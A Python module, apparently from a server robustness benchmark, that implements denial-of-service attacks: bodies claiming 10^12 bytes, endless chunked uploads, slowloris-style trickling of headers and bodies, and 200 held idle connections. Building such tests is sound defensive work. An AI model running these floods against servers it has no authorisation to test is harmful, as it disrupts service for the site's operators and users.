"""Attacks by connections that are kept busy or idle: bodies that never end, and slow senders."""

import socket
import time

from benchmarks.attacks.attackers import Attack, connect, repeat
from benchmarks.attacks.target import Target, write_head

BLOCK = b"x" * 65_536


def flood_bodies(target: Target) -> None:
    repeat(target, 3, lambda target: _flood(target, target.form_path, "application/x-www-form-urlencoded"))


def flood_json(target: Target) -> None:
    repeat(target, 3, lambda target: _flood(target, target.api_path, "application/json"))


def flood_chunks(target: Target) -> None:
    repeat(target, 3, _flood_chunks)


def _flood(target: Target, path: str, content_type: str) -> None:
    head = write_head(target, "POST", path, f"Content-Length: 1000000000000\r\nContent-Type: {content_type}\r\n\r\n")
    with connect(target) as client:
        client.sendall(head)
        while target.seconds_left > 0:
            client.sendall(BLOCK)


def _flood_chunks(target: Target) -> None:
    head = write_head(
        target, "POST", target.form_path, "Transfer-Encoding: chunked\r\nContent-Type: text/plain\r\n\r\n"
    )
    with connect(target) as client:
        client.sendall(head)
        while target.seconds_left > 0:
            client.sendall(b"%x\r\n%s\r\n" % (len(BLOCK), BLOCK))


def send_slow_bodies(target: Target) -> None:
    form = "Content-Length: 400000\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
    repeat(target, 40, lambda target: _trickle(target, write_head(target, "POST", target.form_path, form)))


def send_slow_json(target: Target) -> None:
    form = "Content-Length: 400000\r\nContent-Type: application/json\r\n\r\n"
    repeat(target, 40, lambda target: _trickle(target, write_head(target, "POST", target.api_path, form)))


def send_slow_headers(target: Target) -> None:
    repeat(target, 40, lambda target: _trickle(target, write_head(target, "POST", target.form_path, "X-Slow: ")))


def _trickle(target: Target, head: bytes) -> None:
    """Send one byte a half second, until the site ends it."""
    with connect(target) as client:
        client.sendall(head)
        client.settimeout(0.5)
        while target.seconds_left > 0:
            client.sendall(b"x")
            try:
                if not client.recv(65_536):
                    break
            except TimeoutError:
                continue
            time.sleep(0.1)  # It was answered; a byte more finds out whether the connection is closed.


def hold_connections(target: Target) -> None:
    """Open 200 connections and send nothing."""
    held: list[socket.socket] = []
    try:
        while target.seconds_left > 0:
            if len(held) < 200:
                held.append(connect(target))
            else:
                time.sleep(0.1)
    except OSError:
        time.sleep(max(0.0, target.seconds_left))
    finally:
        for client in held:
            client.close()


ATTACKS = {
    "unread-body": Attack(title="a form's body of 10^12 bytes, by 3 clients", run=flood_bodies),
    "unread-json": Attack(title="a JSON body of 10^12 bytes, by 3 clients", run=flood_json),
    "chunks": Attack(title="a body of infinite chunks, by 3 clients", run=flood_chunks),
    "slow-body": Attack(title="forms at 2 bytes/s, by 40 clients", run=send_slow_bodies),
    "slow-json": Attack(title="JSON at 2 bytes/s, by 40 clients", run=send_slow_json),
    "slow-headers": Attack(title="headers at 2 bytes/s, by 40 clients", run=send_slow_headers),
    "idle": Attack(title="200 connections on which nothing is sent", run=hold_connections),
}
